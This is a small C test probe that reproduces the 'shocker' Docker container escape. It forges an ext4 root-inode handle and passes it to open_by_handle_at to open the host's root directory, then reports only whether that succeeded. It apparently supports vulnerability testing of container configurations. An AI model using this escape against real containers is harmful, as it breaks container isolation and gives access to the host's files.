/*
 * TEST PROBE (not a stand-in): the "shocker" escape that issue 9's row 1
 * used. Given a file that a container sees on the host's filesystem (such as
 * /etc/hostname, bind-mounted by Docker), it asks open_by_handle_at for the
 * root directory of that filesystem by a handle it makes up (ext4's root is
 * inode 2, generation 0): with CAP_DAC_READ_SEARCH, Docker's default seccomp
 * profile lets that through, and the container holds the host's root.
 * Prints one line: "opened" (exit 0), or the error (exit 1).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    const char *on_host = argc > 1 ? argv[1] : "/etc/hostname";
    struct file_handle *handle = calloc(1, sizeof *handle + 8);
    if (handle == NULL) return 2;
    handle->handle_bytes = 8;
    handle->handle_type = 1; /* FILEID_INO32_GEN */
    uint32_t root[2] = {2, 0};
    memcpy(handle->f_handle, root, sizeof root);
    int mount_fd = open(on_host, O_RDONLY);
    if (mount_fd < 0) {
        printf("open: %s\n", strerror(errno));
        return 2;
    }
    int fd = open_by_handle_at(mount_fd, handle, O_RDONLY);
    if (fd < 0) {
        printf("open_by_handle_at: %s\n", strerror(errno));
        return 1;
    }
    printf("open_by_handle_at: opened\n");
    return 0;
}
